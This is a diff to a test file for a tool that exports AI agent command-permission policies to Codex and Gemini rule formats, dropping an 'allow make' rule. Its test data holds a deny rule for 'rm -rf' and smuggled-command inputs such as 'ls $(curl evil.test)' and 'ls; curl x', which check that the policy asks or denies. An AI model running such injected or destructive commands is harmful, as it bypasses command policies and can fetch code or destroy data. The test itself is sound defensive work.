@@ -46,13 +46,12 @@ describe('export --to codex', () => {
       'deny rm -rf',
       'ask npm publish',
       'allow ls',
-      'allow make',
     ]);
     // git status shares its program with a deny: left to Codex's approval, and said so.
     expect(r.stderr).toContain('enforced by the agent-policy-lint hook only: the command allow "git status"');
     expect(r.stderr).toContain('host rules (Codex rules name commands only)');
     const model = models.parseCodexRules(r.stdout);
-    expect(models.codexDecide(model, 'ls -la && make build')).toBe('allow');
+    expect(models.codexDecide(model, 'ls -la && make build')).toBe('ask'); // make is not exported (make -f reads a file)
     expect(models.codexDecide(model, 'ls $(curl evil.test)')).toBe('ask');
     expect(models.codexDecide(model, 'ls; curl x')).toBe('deny');
   });
@@ -82,7 +81,7 @@ describe('export --to gemini', () => {
     const priorities = (d: string) => data.rule.filter((x) => x.decision === d).map((x) => x.priority);
     expect(Math.min(...priorities('deny'))).toBeGreaterThan(Math.max(...priorities('ask_user')));
     expect(Math.min(...priorities('ask_user'))).toBeGreaterThan(Math.max(...priorities('allow')));
-    expect(rules.filter((x) => x.effect === 'allow').map((x) => x.commandRegex ?? x.tools.join())).toHaveLength(3);
+    expect(rules.filter((x) => x.effect === 'allow').map((x) => x.commandRegex ?? x.tools.join())).toHaveLength(2); // ls, and one MCP tool: make stays with the hook (make -f reads a file the policy decides)
     // Gemini's load-time guard against unsafe regular expressions (nested quantifiers) accepts ours.
     for (const x of data.rule) if (x.commandRegex) expect(/\([^)]*[*+?{].*\)[*+?{]/.test(x.commandRegex)).toBe(false);
     const model = models.parseGeminiPolicy(r.stdout);
